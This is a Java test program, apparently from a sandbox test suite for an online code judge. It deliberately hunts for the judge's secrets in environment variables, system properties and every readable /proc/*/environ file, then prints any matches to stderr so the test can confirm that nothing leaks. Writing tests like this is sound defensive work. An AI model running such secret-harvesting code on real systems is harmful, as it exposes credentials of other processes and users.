// attack: hunt for the judge's secrets from Java: System.getenv, the system
//   properties, the parent's and init's /proc/*/environ and every one
//   readable (java.io, so the JDK's nio libraries are not loaded). Findings
//   go to stderr (JUDGE/SECRET lines first), then exit 1: RE on the first
//   sample, whose message shows stderr. The secret must not be there.
// verdicts: RE
// message-contains: env-hunt-ran
import java.io.File;
import java.io.FileInputStream;
import java.io.InputStream;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
public class EnvHunt {
  static final List<String> found = new ArrayList<>(), rest = new ArrayList<>();
  static void consider(String where, String v) {
    (v.matches("(?s).*(JUDGE|SECRET).*") ? found : rest).add(where + ": " + v);
  }
  public static void main(String[] args) {
    for (Map.Entry<String, String> e : System.getenv().entrySet()) consider("getenv", e.getKey() + "=" + e.getValue());
    for (String k : System.getProperties().stringPropertyNames()) consider("property", k + "=" + System.getProperty(k));
    List<String> files = new ArrayList<>(List.of("/proc/self/environ", "/proc/" + ProcessHandle.current().parent()
        .map(p -> Long.toString(p.pid())).orElse("0") + "/environ", "/proc/1/environ"));
    String[] pids = new File("/proc").list();
    if (pids != null)
      for (String p : pids)
        if (p.matches("\\d+")) files.add("/proc/" + p + "/environ");
    for (String f : files) {
      try (InputStream in = new FileInputStream(f)) {
        for (String v : new String(in.readAllBytes(), "ISO-8859-1").split("\0"))
          if (!v.isEmpty()) consider(f, v);
      } catch (Exception e) {
      }
    }
    found.addAll(rest);
    System.err.println("env-hunt-ran\n" + String.join("\n", found));
    System.exit(1);
  }
}
